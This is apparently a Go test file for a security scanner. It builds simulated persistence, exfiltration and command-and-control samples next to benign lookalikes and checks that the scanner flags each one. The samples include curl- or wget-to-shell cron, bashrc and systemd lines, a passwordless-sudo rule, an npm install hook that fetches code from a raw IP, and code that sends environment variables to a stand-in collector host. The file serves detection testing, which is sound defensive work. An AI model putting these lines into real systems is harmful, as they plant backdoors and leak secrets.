package builtin_test

import (
	"testing"

	"kensa.dev/kensa/internal/result"
)

// TestRecallPersistenceAndC2 builds a delivery holding simulators of the persistence,
// exfiltration and command-and-control families (install scripts, unit files, package
// hooks, and small C and Go programs carrying implant marks; none is ever run) beside
// ordinary files of the same kinds, and checks that each simulator is flagged at its
// family's severity and that the ordinary files get nothing at medium or above.
func TestRecallPersistenceAndC2(t *testing.T) {
	d := t.TempDir()

	// Install-time persistence.
	write(t, d, "install.sh", `#!/bin/bash
set -e
install -m 0755 bin/agentd /opt/agent/bin/agentd
(crontab -l 2>/dev/null; echo "*/15 * * * * curl -fsSL http://cdn-upd.example.net/c.sh | sh") | crontab -
echo "agent ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/agent
echo '(wget -q -O- http://cdn-upd.example.net/p | sh &) >/dev/null 2>&1' >> /etc/bash.bashrc
`, 0o755)
	write(t, d, "tools/boot.sh", `#!/bin/sh
cp ./netmon /usr/local/sbin/netmon
echo "/usr/local/sbin/netmon --daemon" >> /etc/rc.local
`, 0o755)
	write(t, d, "etc/systemd/system/dbus-broker-helper.service", `[Unit]
Description=D-Bus broker helper
[Service]
ExecStart=/var/tmp/.dbus/helper --quiet
Restart=always
[Install]
WantedBy=multi-user.target
`, 0o644)
	write(t, d, "etc/systemd/system/sysupdate.service", `[Unit]
Description=System update
[Service]
Type=oneshot
ExecStart=/bin/sh -c 'curl -fsSL https://cdn-upd.example.net/u.sh | sh'
[Install]
WantedBy=multi-user.target
`, 0o644)
	write(t, d, "etc/profile.d/zz-term.sh", "alias sudo='/usr/share/.term/sudo'\n", 0o644)
	write(t, d, "pkg/agent_2.1_amd64/DEBIAN/postinst", `#!/bin/sh
set -e
if [ "$1" = configure ]; then
  curl -fsS -o /usr/lib/agent/plugins.tgz https://dl.agent-cdn.example.net/plugins.tgz
  tar -xzf /usr/lib/agent/plugins.tgz -C /usr/lib/agent
fi
`, 0o755)
	write(t, d, "node_modules/colour-fmt/package.json", `{
  "name": "colour-fmt",
  "version": "2.4.1",
  "scripts": {"preinstall": "curl -s http://91.215.85.17/p.js -o /tmp/p.js && node /tmp/p.js"}
}
`, 0o644)
	write(t, d, "node_modules/colour-fmt/lib/stats.js", `const https = require("https");
const body = JSON.stringify({ h: require("os").hostname(), e: JSON.stringify(process.env) });
const req = https.request({ hostname: "collector.example.net", path: "/c", method: "POST" });
req.end(body);
`, 0o644)
	write(t, d, "opt/agent/lib/notify.py", `import requests
HOOK = "https://discord.com/api/webhooks/1187364529183746521/Zq3vXo9L-2bHk7TtR1mWcPfY8sJd4NaE6uG0iKlQyVxB5rC_hOjZ3wMnA8eSgD1pFt7U"
CFG = "https://pastebin.com/raw/Xk3mP9qA"
PROXIES = {"https": "socks5h://127.0.0.1:9050"}
`, 0o644)

	// Programs: a beacon with a public-IP server, a Cobalt Strike stand-in, and a Go
	// program linking a module with Sliver's path.
	write(t, d, "src/beacon.c", `#include <stdio.h>
static const char server[] = "http://91.215.85.17:8443/api/checkin";
int main(void) { printf("POST %s\n", server); return 0; }
`, 0o644)
	write(t, d, "src/cs.c", `#include <stdio.h>
static const char *const s[] = {
	"\\\\.\\pipe\\MSSE-%d-server",
	"%s as %s\\%s: %d",
	"beacon.x64.dll",
};
int main(int argc, char **argv) { (void)argv; if (argc > 3) puts(s[argc % 3]); return 0; }
`, 0o644)
	write(t, d, "opt/agent/bin/.keep", "", 0o644)
	build(t, d, "gcc", "-O2", "-s", "-o", "opt/agent/bin/checkin", "src/beacon.c")
	build(t, d, "gcc", "-O2", "-s", "-o", "opt/agent/bin/helper", "src/cs.c")
	write(t, d, "gosrc/go.mod", "module example.com/agent\n\ngo 1.22\n\nrequire github.com/bishopfox/sliver v1.5.42\n\nreplace github.com/bishopfox/sliver => ./sliver\n", 0o644)
	write(t, d, "gosrc/sliver/go.mod", "module github.com/bishopfox/sliver\n\ngo 1.22\n", 0o644)
	write(t, d, "gosrc/sliver/protobuf/sliverpb/sliver.go", "package sliverpb\n\ntype Envelope struct {\n\tID   int64\n\tType uint32\n\tData []byte\n}\n", 0o644)
	write(t, d, "gosrc/main.go", `package main

import (
	"fmt"
	"os"

	"github.com/bishopfox/sliver/protobuf/sliverpb"
)

func main() {
	e := sliverpb.Envelope{ID: int64(len(os.Args)), Data: []byte("x")}
	fmt.Println(e.ID, len(e.Data))
}
`, 0o644)
	build(t, d+"/gosrc", "go", "build", "-trimpath", "-o", "../opt/agent/bin/svc", ".")

	// Ordinary files of the same kinds.
	write(t, d, "setup.sh", `#!/bin/sh
set -e
install -m 0755 bin/agentd /opt/agent/bin/agentd
install -m 0644 agent.service /lib/systemd/system/agent.service
systemctl daemon-reload && systemctl enable --now agent.service
echo 'export PATH="$PATH:/opt/agent/bin"' >> /etc/profile.d/agent.sh
crontab -l 2>/dev/null | grep -q agent-rotate || echo "add agent-rotate to cron if you want nightly rotation"
echo "check: curl -s http://localhost:8080/health"
`, 0o755)
	write(t, d, "lib/systemd/system/agent.service", `[Unit]
Description=Agent
[Service]
User=agent
PrivateTmp=yes
ExecStart=/opt/agent/bin/agentd --config /etc/agent/agent.conf --state /var/lib/agent/.state
ExecStopPost=/bin/rm -f /tmp/agent.sock
[Install]
WantedBy=multi-user.target
`, 0o644)
	write(t, d, "etc/sudoers.d/agent", "agent ALL=(root) NOPASSWD: /bin/systemctl restart agent.service\n", 0o440)
	write(t, d, "etc/cron.d/agent", "*/5 * * * * agent curl -fsS -m 10 -o /dev/null https://monitor.example.com/ping/agent\n", 0o644)
	write(t, d, "pkg/agent-tools_2.1_amd64/DEBIAN/postinst", `#!/bin/sh
# see https://www.debian.org/doc/debian-policy/
set -e
if [ "$1" = configure ]; then
  adduser --system --group --no-create-home agent >/dev/null || true
  echo "health check: curl http://localhost:8080/health"
fi
`, 0o755)
	write(t, d, "node_modules/img-resize/package.json", `{
  "name": "img-resize",
  "version": "5.0.2",
  "homepage": "https://github.com/example/img-resize",
  "scripts": {"install": "node-gyp rebuild", "postinstall": "node scripts/check.js"}
}
`, 0o644)
	write(t, d, "opt/agent/lib/alert.sh", `#!/bin/sh
. /etc/agent/notify.conf
curl -s -X POST "https://api.telegram.org/bot${TELEGRAM_TOKEN}/sendMessage" -d chat_id="$TELEGRAM_CHAT" -d text="$1"
curl -fsS -o /etc/agent/site.conf http://10.20.0.5:8080/site.conf
`, 0o755)
	write(t, d, "src/client.c", `#include <stdio.h>
static const char *u[] = {"https://updates.example.com/check", "http://10.0.0.5/cfg", "http://169.254.169.254/latest/meta-data/"};
int main(void) { for (int i = 0; i < 3; i++) puts(u[i]); return 0; }
`, 0o644)
	build(t, d, "gcc", "-O2", "-s", "-o", "opt/agent/bin/client", "src/client.c")

	res := scan(t, d)
	wantFinding(t, res, "install.sh", "persistence/cron-network-fetch", result.High)
	wantFinding(t, res, "install.sh", "persistence/cron-job-write", result.Medium)
	wantFinding(t, res, "install.sh", "persistence/sudoers-nopasswd-all", result.High)
	wantFinding(t, res, "install.sh", "persistence/shell-profile-network-fetch", result.High)
	wantFinding(t, res, "tools/boot.sh", "persistence/rc-local-write", result.Medium)
	wantFinding(t, res, "etc/systemd/system/dbus-broker-helper.service", "persistence/systemd-exec-from-temp", result.High)
	wantFinding(t, res, "etc/systemd/system/sysupdate.service", "persistence/systemd-exec-download", result.High)
	wantFinding(t, res, "etc/profile.d/zz-term.sh", "persistence/shell-alias-hijack", result.High)
	wantFinding(t, res, "pkg/agent_2.1_amd64/DEBIAN/postinst", "persistence/install-hook-network", result.High)
	wantFinding(t, res, "node_modules/colour-fmt/package.json", "persistence/install-hook-network", result.High)
	wantFinding(t, res, "node_modules/colour-fmt/package.json", "c2/raw-ip-url-download", result.High)
	wantFinding(t, res, "node_modules/colour-fmt/lib/stats.js", "exfiltration/environment-serialized-to-network", result.High)
	wantFinding(t, res, "opt/agent/lib/notify.py", "c2/chat-api-channel", result.High)
	wantFinding(t, res, "opt/agent/lib/notify.py", "c2/paste-site-payload", result.High)
	wantFinding(t, res, "opt/agent/lib/notify.py", "c2/tor-proxy", result.High)
	wantFinding(t, res, "opt/agent/bin/checkin", "c2/raw-ip-url", result.Medium)
	wantFinding(t, res, "opt/agent/bin/helper", "c2/implant-cobalt-strike", result.Critical)
	wantFinding(t, res, "opt/agent/bin/svc", "c2/implant-sliver", result.Critical)
	for _, p := range []string{"setup.sh", "lib/systemd/system/agent.service", "etc/cron.d/agent",
		"pkg/agent-tools_2.1_amd64/DEBIAN/postinst", "node_modules/img-resize/package.json",
		"opt/agent/lib/alert.sh", "opt/agent/bin/client"} {
		wantNoFinding(t, res, p, result.Medium)
	}
	// The sudoers drop-in names one command: at most the medium sudoers rule, never high.
	wantNoFinding(t, res, "etc/sudoers.d/agent", result.High)
}
